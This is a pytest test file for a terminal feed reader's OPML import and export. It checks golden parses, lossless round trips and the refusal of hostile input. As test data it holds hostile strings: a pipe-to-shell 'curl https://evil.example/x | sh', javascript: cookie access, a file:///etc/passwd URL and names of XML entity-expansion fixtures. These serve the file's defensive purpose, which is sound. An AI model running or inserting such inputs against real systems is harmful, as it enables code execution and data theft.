"""OPML import and export: real readers' exports, hostile files and lossless round trips."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tui_reader.config import FeedConfig, FilterRule
from tui_reader.opml import ImportResult, export_opml, merge_subscriptions, parse_opml
from tui_reader.services import feed_to_dict

DATA = Path(__file__).parent.parent / "data" / "opml"


def parse_file(name: str) -> ImportResult:
    path = DATA / name
    return parse_opml(path.read_bytes(), str(path))


def roundtrip(feeds: list[FeedConfig], *, opml2: bool) -> dict[str, FeedConfig]:
    """The feeds after export and import, by URL: an export groups feeds by folder, so the
    order of the feeds is that of the folders."""
    text = export_opml(feeds, opml2=opml2)
    return {f.url: f for f in parse_opml(text.encode(), "export.opml").feed_configs()}


def by_url(feeds: list[FeedConfig]) -> dict[str, FeedConfig]:
    return {f.url: f for f in feeds}


@pytest.mark.parametrize("name", ["feedly", "ttrss-nested"])
def test_real_reader_export_parses_to_its_golden_result(name: str) -> None:
    result = parse_file(f"{name}.opml")
    expected = json.loads((DATA / f"{name}.expected.json").read_text())
    assert result.title == expected["title"]
    assert [dict(f) for f in result.feeds] == expected["feeds"]
    assert [
        {"item": s.item, "reason": s.reason, "line": s.line} for s in result.skipped
    ] == expected["skipped"]


def test_feed_filed_in_two_feedly_categories_is_one_feed_with_both_tags() -> None:
    feeds = {f["url"]: f for f in parse_file("feedly.opml").feeds}
    assert feeds["https://www.xataka.com/feedburner.xml"]["tags"] == [
        "Tecnología",
        "Ciencia & Espacio",
    ]
    assert len(parse_file("feedly.opml").feeds) == 5


def test_nested_folders_become_one_tag_naming_the_path() -> None:
    feeds = {f["url"]: f for f in parse_file("ttrss-nested.opml").feeds}
    assert feeds["https://www.genbeta.com/feedburner.xml"]["tags"] == [
        "Noticias/Tecnología/En español"
    ]


def test_outline_whose_text_is_its_url_gets_no_title() -> None:
    feeds = {f["url"]: f for f in parse_file("ttrss-nested.opml").feeds}
    assert "title" not in feeds["https://lwn.net/headlines/rss"]


def test_opml2_categories_are_tags_alongside_the_folder() -> None:
    feeds = {f["url"]: f for f in parse_file("newsboat-opml2.opml").feeds}
    assert feeds["https://www.xataka.com/feedburner.xml"]["tags"] == ["tech/es", "news"]
    assert feeds["https://lwn.net/headlines/rss"]["tags"] == ["linux"]
    assert feeds["https://hnrss.org/frontpage"]["tags"] == ["news/aggregators", "Tech"]


def test_only_http_feeds_are_imported_and_every_other_outline_says_why() -> None:
    result = parse_file("hostile.opml")
    assert [f["url"] for f in result.feeds] == ["https://example.org/feed.xml"]
    reasons = {s.item: s.reason for s in result.skipped}
    assert "javascript:" in reasons["javascript:alert(document.cookie)"]
    assert "file:" in reasons["file:///etc/passwd"]
    assert "exec:" in reasons["exec:~/bin/fetch-feed.sh"]
    assert "data:" in reasons["data:text/xml;base64,PHJzcy8+"]
    assert "never run" in reasons["|curl https://evil.example/x | sh"]
    assert "xmlUrl missing" in reasons['outline "No URL at all"']
    assert "xmlUrl missing" in reasons['outline "Empty"']
    assert "no host" in reasons["https:///feed.xml"]
    assert all(s.line is not None for s in result.skipped)
    assert len(result.skipped) == 8


def test_titles_lose_bidi_overrides_and_control_characters_but_stay_text() -> None:
    (feed,) = parse_file("hostile.opml").feeds
    assert feed["title"] == "[bold red]Red[/] title reversed"


@pytest.mark.parametrize("name", ["billion-laughs.opml", "external-entity.opml"])
def test_document_type_declarations_are_refused_before_any_expansion(name: str) -> None:
    with pytest.raises(ValueError, match="DOCTYPE or entity declaration") as info:
        parse_file(name)
    assert str(DATA / name) in str(info.value)


def test_entity_declaration_in_utf16_is_refused_too() -> None:
    data = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE o [<!ENTITY a "b">]><opml/>'
    with pytest.raises(ValueError, match="entity declaration"):
        parse_opml(data.encode("utf-16"), "x.opml")


def test_utf16_document_is_read() -> None:
    data = (
        '<?xml version="1.0" encoding="UTF-16"?><opml version="1.0"><body>'
        '<outline text="Ñu" xmlUrl="https://example.org/f"/></body></opml>'
    )
    assert parse_opml(data.encode("utf-16"), "x.opml").feeds == (
        {"url": "https://example.org/f", "title": "Ñu"},
    )


@pytest.mark.parametrize(
    ("data", "cause"),
    [
        ((DATA / "malformed.opml").read_bytes(), "mismatched tag: line 7"),
        (b"", "no element found"),
        (b"<html><body/></html>", "root element is <html>"),
        (b'<opml version="1.0"><head/></opml>', "no <body> element"),
        (b"\x89PNG\r\n\x1a\n", "not well-formed"),
    ],
)
def test_malformed_file_is_a_one_line_error_naming_file_and_cause(data: bytes, cause: str) -> None:
    with pytest.raises(ValueError) as info:
        parse_opml(data, "/home/lucia/subs.opml")
    message = str(info.value)
    assert message.startswith("/home/lucia/subs.opml: not a valid OPML file")
    assert cause in message
    assert "\n" not in message


def test_attribute_names_are_matched_case_insensitively() -> None:
    data = b'<opml><body><outline TEXT="A" xmlurl="https://a.example/feed"/></body></opml>'
    assert parse_opml(data, "x").feeds == ({"url": "https://a.example/feed", "title": "A"},)


def test_empty_folder_is_skipped_not_an_error() -> None:
    data = b'<opml><body><outline text="Empty folder"/></body></opml>'
    result = parse_opml(data, "x")
    assert result.feeds == ()
    assert [s.item for s in result.skipped] == ['outline "Empty folder"']


def test_imported_feeds_are_valid_config() -> None:
    configs = parse_file("feedly.opml").feed_configs()
    assert [c.title for c in configs][:2] == ["Xataka", "Genbeta"]
    assert configs[0].tags == ("Tecnología", "Ciencia & Espacio")


FULL = [
    FeedConfig(
        url="https://www.xataka.com/feedburner.xml",
        title='Xataka & "amigos" <es>',
        tags=("tech/es", "news"),
        fulltext=False,
        language="es",
        keep_days=30,
        interval_minutes=90,
        extract={"drop": ["Más noticias"], "min_chars": 200},
        filters=(FilterRule(pattern="(?i)patrocinado", field="title", action="read"),),
    ),
    FeedConfig(url="https://lwn.net/headlines/rss", fulltext=True),
    FeedConfig(url="https://hnrss.org/frontpage", title="HN", tags=("news",)),
    FeedConfig(url="https://example.org/untagged.xml", title="Untagged"),
]


def test_opml2_round_trip_loses_nothing() -> None:
    assert roundtrip(FULL, opml2=True) == by_url(FULL)


def test_opml1_round_trip_keeps_urls_titles_and_tags() -> None:
    back = roundtrip(FULL, opml2=False)
    assert set(back) == {f.url for f in FULL}
    for feed in FULL:
        assert back[feed.url].title == feed.title
        assert set(back[feed.url].tags) == set(feed.tags)


def test_opml1_export_files_a_tagged_feed_in_each_of_its_folders() -> None:
    text = export_opml(FULL, opml2=False)
    assert text.count('xmlUrl="https://www.xataka.com/feedburner.xml"') == 2
    assert 'version="1.0"' in text
    assert "category=" not in text
    assert "tr:" not in text


@pytest.mark.parametrize("name", ["feedly.opml", "ttrss-nested.opml", "newsboat-opml2.opml"])
@pytest.mark.parametrize("opml2", [True, False])
def test_reexporting_an_import_gives_the_same_feeds(name: str, opml2: bool) -> None:
    feeds = parse_file(name).feed_configs()
    back = roundtrip(feeds, opml2=opml2)
    if opml2:
        assert back == by_url(feeds)
    else:
        assert {u: (f.title, set(f.tags)) for u, f in back.items()} == {
            f.url: (f.title, set(f.tags)) for f in feeds
        }


def test_export_of_hostile_titles_is_well_formed_and_plain() -> None:
    feeds = [FeedConfig(url="https://e.example/f?a=1&b=2", title="\x1b[31mred\x1b[0m\u202e & <x>")]
    text = export_opml(feeds, opml2=True)
    assert "\x1b" not in text and "\u202e" not in text
    (back,) = roundtrip(feeds, opml2=True).values()
    assert back.url == "https://e.example/f?a=1&b=2"
    assert back.title == "red & <x>"


_name = (
    st.text(
        alphabet=st.characters(categories=("L", "N", "P", "Zs"), exclude_characters="/,"),
        min_size=1,
        max_size=12,
    )
    .map(str.strip)
    .filter(bool)
)


@settings(max_examples=60, deadline=None)
@given(
    st.lists(
        st.tuples(st.text(alphabet="abcdefghij", min_size=1, max_size=8), _name, st.lists(_name)),
        max_size=6,
        unique_by=lambda t: t[0],
    )
)
def test_any_titles_and_tags_survive_an_opml2_round_trip(
    items: list[tuple[str, str, list[str]]],
) -> None:
    feeds = [
        FeedConfig(url=f"https://{host}.example/feed", title=" ".join(title.split()), tags=tags)
        for host, title, raw_tags in items
        for tags in [tuple(dict.fromkeys(" ".join(t.split()) for t in raw_tags))]
    ]
    assert roundtrip(feeds, opml2=True) == by_url(feeds)


def test_merge_subscriptions_unions_tags_and_counts_new_feeds() -> None:
    existing: list[dict[str, Any]] = [
        feed_to_dict(FeedConfig(url="https://a.example/f", title="A", tags=("x",)))
    ]
    imported: list[dict[str, Any]] = [
        {"url": "https://a.example/f", "title": "Other", "tags": ["y", "x"]},
        {"url": "https://b.example/f"},
    ]
    merged, new = merge_subscriptions(existing, imported)
    assert new == 1
    assert [(f["url"], f.get("title"), f.get("tags")) for f in merged] == [
        ("https://a.example/f", "A", ["x", "y"]),
        ("https://b.example/f", None, None),
    ]
    assert existing[0]["tags"] == ["x"]  # the caller's list is not changed


def test_feed_dicts_have_the_shape_of_feed_to_dict() -> None:
    result = parse_opml(export_opml(FULL, opml2=True).encode(), "x")
    for feed in result.feeds:
        expected = feed_to_dict(by_url(FULL)[feed["url"]])
        # feed_to_dict keeps defaults ("auto", 0) that an import leaves out
        defaults = {"fulltext": "auto", "interval_minutes": 0}
        assert feed == {k: v for k, v in expected.items() if defaults.get(k, ...) != v}
